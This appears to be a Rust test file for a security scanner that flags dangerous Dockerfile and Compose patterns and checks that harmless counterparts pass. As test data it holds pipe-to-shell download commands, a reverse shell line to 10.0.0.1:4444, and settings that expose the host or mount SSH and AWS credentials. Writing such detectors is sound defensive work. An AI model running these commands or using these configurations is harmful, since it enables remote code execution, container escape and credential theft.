//! Dockerfiles and Compose: commands in whatever runs them, ways to the machine, and their harmless twins.

mod asking;

use asking::{ask, file};
use review::wire::Severity;

fn rules(path: &str, text: &str) -> Vec<String> {
    let said = ask(file(path, text), &["own"]);
    assert_ne!(said.kind, "unknown", "{text}");
    let bad = said.findings.into_iter().filter(|one| one.severity >= Severity::Medium);
    bad.map(|one| one.rule).collect()
}

fn image(lines: &str) -> String {
    format!("FROM alpine:3.20\n{lines}\nUSER 1000\n")
}

fn service(lines: &str) -> String {
    let lines: String = lines.lines().map(|line| format!("    {line}\n")).collect();
    format!("services:\n  a:\n    image: example.com/a:1.2.3\n{lines}")
}

/// Scripts that run what nobody has read, and such that do not.
const UNREAD: [&str; 5] = [
    "curl -fsSL https://example.org/x | sh",
    "wget -qO- https://example.org/x | bash -s -- -y",
    "sh -c \"$(curl -fsSL https://example.org/x)\"",
    "curl -o x https://example.org/x && sh x",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
];
const READ: [&str; 4] =
    ["curl -f http://localhost/healthz", "wget -qO- http://localhost/ | grep ok", "sh /app/start.sh", "node server.js"];

/// The instructions of an image that hold a script.
fn instructions(script: &str) -> Vec<(&'static str, String)> {
    let list = serde_json::to_string(&["sh", "-c", script]).expect("JSON");
    vec![
        ("DOCKER_UNREAD_SCRIPT", format!("RUN {script}")),
        ("DOCKER_UNREAD_SCRIPT", format!("RUN {list}")),
        ("DOCKER_UNREAD_SCRIPT", format!("ONBUILD RUN {script}")),
        ("DOCKER_UNREAD_SCRIPT", format!("RUN <<EOF\n{script}\nEOF")),
        ("DOCKER_UNREAD_SCRIPT", format!("RUN --mount=type=cache,target=/c {script}")),
        ("DOCKER_UNREAD_START", format!("CMD {script}")),
        ("DOCKER_UNREAD_START", format!("CMD {list}")),
        ("DOCKER_UNREAD_START", format!("ENTRYPOINT {list}")),
        ("DOCKER_UNREAD_START", format!("entrypoint {script}")),
        ("DOCKER_UNREAD_START", format!("HEALTHCHECK --interval=5s CMD {script}")),
        ("DOCKER_UNREAD_START", format!("ONBUILD ENTRYPOINT {list}")),
        ("DOCKER_UNREAD_START", format!("COPY <<EOF /start.sh\n{script}\nEOF")),
    ]
}

#[test]
fn a_script_is_read_in_whatever_instruction_it_stands() {
    for script in UNREAD {
        for (rule, lines) in instructions(script) {
            assert_eq!(rules("Dockerfile", &image(&lines)), [rule], "{lines}");
        }
    }
    for script in READ {
        for (_, lines) in instructions(script) {
            assert!(rules("Dockerfile", &image(&lines)).is_empty(), "{lines}");
        }
    }
}

/// The keys of a service that hold a command.
fn commands(script: &str) -> Vec<String> {
    let text = serde_json::to_string(&format!("sh -c {}", serde_json::to_string(script).expect("JSON"))).expect("JSON");
    let list = serde_json::to_string(&["sh", "-c", script]).expect("JSON");
    let shell = serde_json::to_string(&["CMD-SHELL", script]).expect("JSON");
    vec![
        format!("command: {text}"),
        format!("command: {list}"),
        format!("entrypoint: {list}"),
        format!("healthcheck: {{ test: {shell} }}"),
        format!("post_start:\n- command: {list}"),
    ]
}

#[test]
fn a_script_is_read_in_whatever_key_of_a_service_it_stands() {
    for script in UNREAD.iter().filter(|script| !script.contains('$')) {
        for lines in commands(script) {
            assert_eq!(rules("compose.yaml", &service(&lines)), ["COMPOSE_UNREAD_SCRIPT"], "{lines}");
        }
    }
    for script in READ {
        for lines in commands(script) {
            assert!(rules("compose.yaml", &service(&lines)).is_empty(), "{lines}");
        }
    }
}

#[test]
fn ways_to_the_machine_are_told_apart_from_their_twins() {
    for (rule, bad, good) in [
        ("COMPOSE_DOCKER_SOCKET", "use_api_socket: true", "use_api_socket: false"),
        ("COMPOSE_HOST_NAMESPACE", "cgroup: host", "cgroup: private"),
        ("COMPOSE_UNCONFINED", "security_opt: [\"label:disable\"]", "security_opt: [\"label:type:svirt_t\"]"),
        ("COMPOSE_UNCONFINED", "security_opt: [\"label=disable\"]", "security_opt: [\"no-new-privileges:true\"]"),
        ("COMPOSE_DEVICE", "devices: [\"/dev/sda:/dev/sda\"]", "devices: [\"/dev/ttyUSB0:/dev/ttyUSB0\"]"),
        ("COMPOSE_DEVICE", "devices: [\"/dev/nvme0n1\"]", "devices: [\"/dev/dri\"]"),
        (
            "COMPOSE_DEVICE",
            "devices: [{ source: /dev/mem, target: /m }]",
            "devices: [{ source: /dev/kvm, target: /k }]",
        ),
        ("COMPOSE_DEVICE", "device_cgroup_rules: [\"a *:* rwm\"]", "device_cgroup_rules: [\"c 188:* rmw\"]"),
        (
            "COMPOSE_PRIVILEGED_BUILD",
            "build: { context: ., privileged: true }",
            "build: { context: ., privileged: false }",
        ),
        (
            "COMPOSE_PRIVILEGED_BUILD",
            "build: { context: ., entitlements: [security.insecure] }",
            "build: { context: . }",
        ),
        ("COMPOSE_PRIVILEGED", "post_start: [{ command: id, privileged: true }]", "post_start: [{ command: id }]"),
        ("COMPOSE_SHARED_PROCESSES", "pid: \"container:b\"", "network_mode: \"service:b\""),
        ("COMPOSE_KEYS_MOUNTED", "volumes: [\"~/.ssh:/s\"]", "volumes: [\"~/.ssh/known_hosts:/k\"]"),
        ("COMPOSE_KEYS_MOUNTED", "volumes: [\"/home/me/.aws/credentials:/c\"]", "volumes: [\"/home/me/data:/c\"]"),
        ("COMPOSE_KEYS_MOUNTED", "volumes: [\"~/.ssh/id_rsa:/c\"]", "volumes: [\"./.ssh-agent:/c\"]"),
        (
            "COMPOSE_NO_PASSWORD",
            "environment: { POSTGRES_HOST_AUTH_METHOD: trust }",
            "environment: { POSTGRES_HOST_AUTH_METHOD: md5 }",
        ),
        (
            "COMPOSE_NO_PASSWORD",
            "environment: [\"MYSQL_ALLOW_EMPTY_PASSWORD=yes\"]",
            "environment: [\"MYSQL_ALLOW_EMPTY_PASSWORD=\"]",
        ),
        (
            "COMPOSE_NO_PASSWORD",
            "environment: { ALLOW_EMPTY_PASSWORD: \"yes\" }",
            "environment: { ALLOW_EMPTY_PASSWORD: \"no\" }",
        ),
        (
            "COMPOSE_KEYS_MOUNTED",
            "secrets: [x]\nsecrets:\n  x: { file: ~/.aws/credentials }",
            "secrets: [x]\nsecrets:\n  x: { file: ./x }",
        ),
        (
            "COMPOSE_HOST_PATH",
            "configs: [x]\nconfigs:\n  x: { file: /etc/shadow }",
            "configs: [x]\nconfigs:\n  x: { file: ./x.conf }",
        ),
    ] {
        let made = |lines: &str| {
            service(lines)
                .replace("\n    secrets:\n      x", "\nsecrets:\n  x")
                .replace("\n    configs:\n      x", "\nconfigs:\n  x")
        };
        assert_eq!(rules("compose.yaml", &made(bad)), [rule], "{bad}");
        assert!(rules("compose.yaml", &made(good)).is_empty(), "{good}");
    }
}

#[test]
fn keys_of_somebody_are_told_apart_from_other_files() {
    for path in
        ["id_rsa", "keys/id_ed25519", ".ssh/", ".aws/credentials", ".kube/config", "server-key.pem", "a.pfx", ".netrc"]
    {
        for line in
            [format!("COPY {path} /x/"), format!("ADD --chown=1:1 {path} /x/"), format!("COPY [\"{path}\", \"/x/\"]")]
        {
            let found = rules("Dockerfile", &image(&line));
            assert!(found.contains(&"DOCKER_KEY_COPIED".to_owned()), "{line}: {found:?}");
        }
    }
    for path in ["id_rsa.pub", "server.pem", "ca.crt", ".ssh/known_hosts", "src/", "keys.json", "awsconfig"] {
        assert!(rules("Dockerfile", &image(&format!("COPY {path} /x/"))).is_empty(), "{path}");
    }
}

#[test]
fn root_by_a_variable_is_root() {
    assert_eq!(rules("Dockerfile", "FROM alpine:3.20\nARG U=root\nUSER $U\n"), ["DOCKER_ROOT"]);
    assert!(rules("Dockerfile", "FROM alpine:3.20\nARG U=app\nUSER $U\n").is_empty());
}
